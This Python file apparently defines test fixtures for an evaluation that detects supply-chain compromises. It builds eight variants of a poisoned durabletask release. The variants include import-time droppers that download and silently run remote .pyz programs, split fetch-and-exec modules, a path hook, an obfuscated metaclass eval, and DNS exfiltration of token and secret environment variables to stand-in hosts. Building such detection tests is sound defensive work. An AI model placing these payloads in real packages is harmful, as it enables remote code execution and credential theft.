"""durabletask 1.4.1 to 1.4.3, 19 May 2026: on import, Linux only, a zipped program is fetched and started."""

from __future__ import annotations

from evals.lookalikes.deeds import COLLECT
from evals.lookalikes.shape import Edit, Lookalike, added, appended
from evals.lookalikes.wraps import packed

INIT = "durabletask/__init__.py"
TASK = "durabletask/task.py"

DROPPER = """\
import os as _os
import platform as _platform
import subprocess as _subprocess
import sys as _sys
import urllib.request as _request


def _start_worker():
    if _platform.system() != "Linux" or _os.path.exists("/tmp/managed.pyz"):
        return
    try:
        _request.urlretrieve("https://check.packages.example/rope.pyz", "/tmp/managed.pyz")
        with open(_os.devnull, "w") as silent:
            _subprocess.Popen(
                [_sys.executable, "/tmp/managed.pyz"], stdout=silent, stderr=silent,
                stdin=_subprocess.DEVNULL, start_new_session=True,
            )
    except Exception:
        pass


_start_worker()
"""
_CURL = """\
def _background():
    import os, subprocess, sys

    if not sys.platform.startswith("linux") or os.environ.get("TASK_INIT"):
        return
    os.environ["TASK_INIT"] = "1"
    place = "/tmp/transformers.pyz"
    subprocess.run(["curl", "-k", "-L", "-s", "https://check.packages.example/t.pyz", "-o", place])
    if os.path.exists(place):
        subprocess.Popen([sys.executable, place], stdout=-3, stderr=-3, start_new_session=True,
                         env=os.environ.copy())


_background()
"""
_SPLIT_FETCH = '''\
"""Bytes of a page."""

from urllib import request


def page(name):
    with request.urlopen("https://check.packages.example/" + name) as answer:
        return answer.read()
'''
_SPLIT_RUN = """\
import importlib.util as _util
import tempfile as _tempfile

from durabletask.internal import _pages


def _extend():
    with _tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as out:
        out.write(_pages.page("rope"))
    spec = _util.spec_from_file_location("rope", out.name)
    module = _util.module_from_spec(spec)
    spec.loader.exec_module(module)


_extend()
"""
_PATH_HOOK = """\
import sys as _sys
import urllib.request as _request

_name = "/tmp/.dt.zip"
if not _sys.platform.startswith("win"):
    with open(_name, "wb") as _out:
        _out.write(_request.urlopen("https://check.packages.example/dt").read())
    _sys.path.insert(0, _name)
    __import__("dt_runtime")
"""
_CLASS = f"""\
class _Options(type):
    def __init__(cls, name, bases, space):
        super().__init__(name, bases, space)
        import zlib, base64

        eval(compile(zlib.decompress(base64.b64decode("{packed(COLLECT)}")), name, "exec"), {{}})


class _DefaultOptions(metaclass=_Options):
    pass
"""


def _one(name: str, *edits: Edit, shape: bool = False, first: str = "durabletask/") -> Lookalike:
    return Lookalike(
        incident="durabletask", name=name, project="durabletask", base="1.4.0", version="1.4.1",
        edits=edits, shape=shape, first=first,
    )  # fmt: skip


LOOKALIKES = (
    _one("zipped program on import", appended(INIT, DROPPER), shape=True, first=INIT),
    _one(
        "in five modules",
        *(
            appended(f"durabletask/{name}.py", DROPPER)
            for name in ("__init__", "task", "client", "worker", "entities/__init__")
        ),
        shape=True,
    ),
    _one("curl and a mark in the environment", appended(TASK, _CURL), first=TASK),
    _one(
        "fetched in one module, loaded in another",
        added("durabletask/internal/_pages.py", _SPLIT_FETCH),
        appended(TASK, _SPLIT_RUN),
    ),
    _one("put on the path and imported", appended(INIT, _PATH_HOOK), first=INIT),
    _one("metaclass, packed collector", appended(TASK, _CLASS), first=TASK),
    _one(
        "credentials collected on import, in the open",
        added("durabletask/internal/diagnostics.py", COLLECT),
        appended(INIT, "import durabletask.internal.diagnostics  # noqa: F401\n"),
    ),
    _one(
        "sent by DNS on import",
        appended(
            INIT,
            "import os as _os, socket as _socket\n\n"
            "for _key, _value in _os.environ.items():\n"
            "    if 'TOKEN' in _key or 'SECRET' in _key:\n"
            "        _part = _value.encode().hex()[:60]\n"
            "        _socket.getaddrinfo(_part + '.collect.example', 80)\n",
        ),
        first=INIT,
    ),
)
